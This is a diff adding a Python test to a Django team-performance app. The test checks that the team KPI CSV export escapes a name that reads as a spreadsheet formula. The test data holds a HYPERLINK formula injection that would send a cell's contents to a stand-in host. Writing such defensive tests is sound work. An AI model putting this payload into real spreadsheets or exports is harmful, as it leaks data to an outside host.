@@ -739,3 +739,17 @@ def test_the_new_lead_reads_the_movers_own_history(other_lead, moved):
     assert page.status_code == 200
     csat = next(mine for mine, _ in page.context["figures"] if mine.kpi.key == "csat")
     assert csat.value is not None  # the days on the former team come along
+
+
+def test_a_name_that_reads_as_a_formula_comes_out_as_text_in_the_team_export(team, lead, usual):
+    """Issue 12, point 16: the team KPI export goes through teams.text.write_csv."""
+    evil = AssociateFactory(team=team)
+    evil.user.first_name, evil.user.last_name = '=HYPERLINK("http://evil.example/?x="&A1', "x"
+    evil.user.save()
+    history(team, [evil], 2, usual.values())
+    url = reverse("performance:team-dashboard", args=[team.pk])
+    query = range_query(END - dt.timedelta(days=1), END)
+    export = client_for(lead).get(url, query | {"export": "csv"})
+    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
+    names = {r["name"] for r in rows if r["row"] == "associate"}
+    assert names == {"'" + evil.name}
